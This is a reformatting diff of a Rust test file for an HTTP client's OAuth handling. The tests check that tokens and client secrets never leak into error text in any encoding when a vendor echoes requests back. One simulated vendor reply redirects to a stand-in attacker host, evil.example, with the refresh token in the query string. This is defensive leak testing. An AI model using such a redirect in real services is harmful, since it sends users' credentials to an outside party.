@@ -46,32 +46,18 @@ fn assert_clean(text: &str, what: &str) {
     for canary in [REFRESH, ROTATED, ACCESS, NEW_ACCESS, CLIENT_SECRET, PARAM, KEY] {
         let form: String = url::form_urlencoded::byte_serialize(canary.as_bytes()).collect();
         let percent = form.replace('+', "%20");
-        let hex: String = canary
-            .bytes()
-            .fold(String::new(), |text, b| format!("{text}{b:02x}"));
-        let forms = [
-            canary.to_owned(),
-            form,
-            percent,
-            STANDARD.encode(canary),
-            URL_SAFE_NO_PAD.encode(canary),
-            hex,
-        ];
+        let hex: String = canary.bytes().fold(String::new(), |text, b| format!("{text}{b:02x}"));
+        let forms =
+            [canary.to_owned(), form, percent, STANDARD.encode(canary), URL_SAFE_NO_PAD.encode(canary), hex];
         for form in forms {
-            assert!(
-                !lower.contains(&form.to_lowercase()),
-                "{what}: {canary} as {form} in {text}"
-            );
+            assert!(!lower.contains(&form.to_lowercase()), "{what}: {canary} as {form} in {text}");
         }
     }
     assert!(!lower.contains("canary"), "{what}: part of a canary in {text}");
 }
 
 fn texts(error: &acople_core::Error) -> String {
-    let mut text = format!(
-        "{error}\n{error:?}\n{error:#?}\n{}\n",
-        serde_json::to_string(error).unwrap()
-    );
+    let mut text = format!("{error}\n{error:?}\n{error:#?}\n{}\n", serde_json::to_string(error).unwrap());
     let mut source = error.source();
     while let Some(cause) = source {
         writeln!(text, "{cause}\n{cause:?}").unwrap();
@@ -82,30 +68,16 @@ fn texts(error: &acople_core::Error) -> String {
 
 /// What a vendor may do to a token call; all of it echoes the whole request.
 fn answers(sent: &Sent) -> Vec<Reply> {
-    let form: Vec<_> = url::form_urlencoded::parse(sent.request.body())
-        .into_owned()
-        .collect();
+    let form: Vec<_> = url::form_urlencoded::parse(sent.request.body()).into_owned().collect();
     let decoded: Vec<_> = form.iter().map(|(_, value)| value.as_str()).collect();
-    let refresh = decoded
-        .iter()
-        .find(|value| value.contains("rt"))
-        .copied()
-        .unwrap_or("none");
+    let refresh = decoded.iter().find(|value| value.contains("rt")).copied().unwrap_or("none");
     let echo = format!(
         "you sent {} with {}, that is {} or {} or {}",
         sent.body(),
         sent.header("authorization").unwrap_or_default(),
         decoded.join(" "),
-        decoded
-            .iter()
-            .map(|value| STANDARD.encode(value))
-            .collect::<Vec<_>>()
-            .join(" "),
-        decoded
-            .iter()
-            .map(|value| URL_SAFE_NO_PAD.encode(value))
-            .collect::<Vec<_>>()
-            .join(" "),
+        decoded.iter().map(|value| STANDARD.encode(value)).collect::<Vec<_>>().join(" "),
+        decoded.iter().map(|value| URL_SAFE_NO_PAD.encode(value)).collect::<Vec<_>>().join(" "),
     );
     let error = |code: &str| serde_json::json!({"error": code, "error_description": echo}).to_string();
     vec![
@@ -125,19 +97,10 @@ fn answers(sent: &Sent) -> Vec<Reply> {
         Reply::json(400, echo.clone()),
         Reply::json(200, echo.clone()),
         Reply::json(200, format!(r#"{{"access_token":"{NEW_ACCESS} {echo}"}}"#)),
-        Reply::json(
-            200,
-            format!(r#"{{"access_token":"{NEW_ACCESS}","access_token":"{ROTATED}"}}"#),
-        ),
-        Reply::json(
-            200,
-            format!(r#"{{"access_token":"{NEW_ACCESS}","refresh_token":"{ROTATED}"#),
-        ),
-        Reply::json(
-            200,
-            format!(r#"{{"access_token":"{NEW_ACCESS}","refresh_token":"{ROTATED}"}}"#),
-        )
-        .truncated(),
+        Reply::json(200, format!(r#"{{"access_token":"{NEW_ACCESS}","access_token":"{ROTATED}"}}"#)),
+        Reply::json(200, format!(r#"{{"access_token":"{NEW_ACCESS}","refresh_token":"{ROTATED}"#)),
+        Reply::json(200, format!(r#"{{"access_token":"{NEW_ACCESS}","refresh_token":"{ROTATED}"}}"#))
+            .truncated(),
         Reply::new(200, format!("<html>{echo}</html>")).header("content-type", "text/html"),
         Reply::json(302, "").header("location", &format!("https://evil.example/?{refresh}")),
         Reply::fail(Progress::MaybeSent, WireFault::Reset),
@@ -147,20 +110,10 @@ fn answers(sent: &Sent) -> Vec<Reply> {
 }
 
 fn provider(resources: &Resources, kind: usize, key: &TestKey) -> OAuth2 {
-    let style = if kind == 0 {
-        ClientStyle::Basic
-    } else {
-        ClientStyle::Body
-    };
-    let client = OAuthClient {
-        id: "app".into(),
-        secret: Some(CLIENT_SECRET.into()),
-        style,
-    };
+    let style = if kind == 0 { ClientStyle::Basic } else { ClientStyle::Body };
+    let client = OAuthClient { id: "app".into(), secret: Some(CLIENT_SECRET.into()), style };
     let grant = match kind {
-        0 | 1 => Grant::RefreshToken {
-            refresh_token: REFRESH.into(),
-        },
+        0 | 1 => Grant::RefreshToken { refresh_token: REFRESH.into() },
         2 => Grant::ClientCredentials { scope: None },
         _ => Grant::JwtBearer {
             issuer: "app".into(),
@@ -201,9 +154,7 @@ async fn sec_01_and_sec_03_no_secret_is_in_any_text_whatever_the_vendor_echoes()
                     return Reply::json(401, format!(r#"{{"message":"{ACCESS}"}}"#));
                 }
                 let body = sent.body();
-                seen.lock()
-                    .unwrap()
-                    .extend(body.split_once("assertion=").map(|(_, a)| a.to_owned()));
+                seen.lock().unwrap().extend(body.split_once("assertion=").map(|(_, a)| a.to_owned()));
                 let all = answers(sent);
                 assert_eq!(all.len(), scenarios);
                 all[scenario].clone()
@@ -212,17 +163,12 @@ async fn sec_01_and_sec_03_no_secret_is_in_any_text_whatever_the_vendor_echoes()
             store.fail_next_saves(usize::from(scenario == 0));
             let resources = Resources::new(Arc::new(transport)).with_tokens(Arc::new(store));
             let auth = provider(&resources, kind, &key);
-            let client = Client::with_resources(BASE, &resources)
-                .unwrap()
-                .auth(Arc::new(auth.clone()))
-                .build();
+            let client =
+                Client::with_resources(BASE, &resources).unwrap().auth(Arc::new(auth.clone())).build();
             let what = format!("grant {kind}, answer {scenario}");
             let mut said = String::new();
             for _ in 0..2 {
-                if let Err(error) = client
-                    .send(&acople_core::Context::new(), &Call::get("read"))
-                    .await
-                {
+                if let Err(error) = client.send(&acople_core::Context::new(), &Call::get("read")).await {
                     said.push_str(&texts(&error));
                 }
                 tokio::time::sleep(Duration::from_secs(301)).await;
@@ -270,14 +216,8 @@ async fn sec_01_static_credentials_are_in_no_text() {
             );
             Reply::json(403, echo)
         });
-        let client = Client::builder(BASE, Arc::new(transport))
-            .unwrap()
-            .auth(Arc::new(auth.clone()))
-            .build();
-        let error = client
-            .send(&acople_core::Context::new(), &Call::get("read"))
-            .await
-            .unwrap_err();
+        let client = Client::builder(BASE, Arc::new(transport)).unwrap().auth(Arc::new(auth.clone())).build();
+        let error = client.send(&acople_core::Context::new(), &Call::get("read")).await.unwrap_err();
         assert_clean(&texts(&error), "error");
         assert!(authorization_is_marked(&auth).await);
     }
@@ -286,8 +226,6 @@ async fn sec_01_static_credentials_are_in_no_text() {
 /// Whatever header the provider sets is marked sensitive.
 async fn authorization_is_marked(auth: &StaticAuth) -> bool {
     let mut request = acople_core::Request::new(http::Method::GET, BASE.parse().unwrap());
-    acople_core::AuthProvider::authorize(auth, &acople_core::Context::new(), &mut request)
-        .await
-        .unwrap();
+    acople_core::AuthProvider::authorize(auth, &acople_core::Context::new(), &mut request).await.unwrap();
     request.headers().values().all(http::HeaderValue::is_sensitive)
 }
